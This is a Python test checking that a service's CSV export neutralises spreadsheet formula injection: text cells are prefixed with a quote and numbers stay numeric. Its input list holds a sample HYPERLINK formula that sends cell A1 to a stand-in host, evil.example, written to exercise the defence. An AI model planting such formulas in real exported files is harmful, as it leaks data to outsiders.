"""CSV export against spreadsheet formula injection (issue 12, item 6, OWASP "CSV Injection"): a
text cell (a series key) that starts with = + - @ tab or CR is written with a leading ``'``;
numbers, negative ones included, are written as numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

KEYS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1+1)", "@SUM(1+1)", "-2+3", "=1+1",
        "train/loss", "a,b", 'quo"te']


def test_text_cells_are_neutralised_and_numbers_are_not(client: Any) -> None:
    rid = client.post("/api/v1/projects/p/runs", json={}).json()["id"]
    body = {"series": [{"key": k, "steps": [0, 1, 2], "values": [-1.5, "-Infinity", -2e-300]} for k in KEYS]}
    assert client.post(f"/api/v1/runs/{rid}/points", json=body).status_code == 200
    r = client.get(f"/api/v1/runs/{rid}/export.csv", params={"key": KEYS})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0] == ["key", "step", "value", "wall_time"]
    by_key: dict[str, list[list[str]]] = {}
    for row in rows[1:]:
        by_key.setdefault(row[0], []).append(row)
    expected = {k: ("'" + k if k[0] in "=+-@" else k) for k in KEYS}
    assert set(by_key) == set(expected.values())
    for cell, cells in by_key.items():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert [c[2] for c in cells] == ["-1.5", "-Infinity", "-2e-300"]  # numbers stay numbers
        assert [c[1] for c in cells] == ["0", "1", "2"]
    for line in r.text.splitlines()[1:]:
        assert not line.startswith(("=", "+", "-", "@")), line
